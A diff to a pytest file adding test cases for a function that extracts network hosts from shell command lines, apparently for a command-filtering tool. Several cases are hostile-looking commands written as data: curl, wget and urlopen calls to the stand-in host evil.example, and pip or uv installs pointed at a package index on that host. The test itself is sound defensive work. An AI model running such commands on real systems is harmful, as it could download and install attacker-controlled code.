@@ -42,7 +42,13 @@ def test_a_command_reaches_rules_as_plain_data():
         ("git show HEAD:src/app.py", []),
         ("git commit -m 'alias: fix'", []),
         ("python -c \"urlopen('http://evil.example/x')\"", ["evil.example"]),
-        ("curl example.com", []),
+        ("curl example.com", ["example.com"]),
+        ("curl -s https://github.com/x evil.example/y", ["github.com", "evil.example"]),
+        ("curl -o y.tgz -H 'X: a.b' https://github.com/x", ["github.com"]),
+        ("curl --url evil.example --output o.json", ["evil.example"]),
+        ("wget -O y https://github.com Evil.example", ["github.com", "evil.example"]),
+        ("PIP_INDEX_URL=https://evil.example/s pip install x", ["evil.example"]),
+        ("env UV_INDEX_URL=https://evil.example/s uv pip install x", ["evil.example"]),
     ],
 )
 def test_hosts_are_the_real_hosts_of_urls(line: str, hosts: list[str]):
